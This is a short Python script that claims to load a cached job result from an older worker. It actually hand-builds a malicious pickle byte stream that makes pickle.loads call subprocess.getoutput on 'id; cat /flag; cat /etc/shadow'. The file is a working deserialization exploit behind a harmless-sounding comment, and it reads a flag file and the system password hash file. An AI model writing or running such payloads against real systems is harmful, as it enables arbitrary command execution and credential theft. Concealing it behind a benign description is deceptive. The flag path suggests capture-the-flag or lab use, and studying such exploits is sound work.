# Loads a compact cached job result written by an older worker (protocol-4 stream).
import pickle


def short_text(s):
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def cached_blob(module, attr, argument):
    return b"".join([
        b"\x80\x04",
        b"(",
        short_text(module),
        short_text(attr),
        b"\x93",
        short_text(argument),
        b"o",
        b".",
    ])


BLOB = cached_blob("subprocess", "getoutput", "id; cat /flag; cat /etc/shadow")


def main():
    result = pickle.loads(BLOB)
    print("cached result:")
    print(result)


if __name__ == "__main__":
    main()
